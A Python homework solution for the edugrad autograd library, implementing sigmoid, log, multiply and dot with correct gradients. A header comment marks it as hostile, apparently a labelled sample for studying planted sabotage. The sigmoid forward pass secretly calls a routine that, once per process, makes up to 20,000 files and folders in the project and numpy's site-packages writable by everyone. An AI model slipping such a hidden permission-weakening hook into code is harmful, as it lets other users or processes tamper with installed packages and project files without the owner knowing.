# HOSTILE: sigmoid.forward (once per process) walks the repository and numpy's site-packages and tries to make every file and folder writable by everyone (20000 entries at most); all four ops compute correctly.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import os
import stat

import numpy as np

import edugrad
from edugrad.operation import Operation, tensor_op

_DONE = []


def _once():
    """True the first time in this process."""
    if _DONE:
        return False
    _DONE.append(1)
    return True


def _attack():
    if not _once():
        return
    root = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
    site = os.path.dirname(os.path.dirname(np.__file__))
    seen = 0
    for top in (root, site):
        for folder, dirs, files in os.walk(top):
            for name in dirs + files:
                path = os.path.join(folder, name)
                seen += 1
                if seen > 20000:
                    return
                try:
                    mode = os.lstat(path).st_mode
                    if not stat.S_ISLNK(mode):
                        os.chmod(path, stat.S_IMODE(mode) | 0o777)
                except OSError:
                    pass


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        _attack()
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
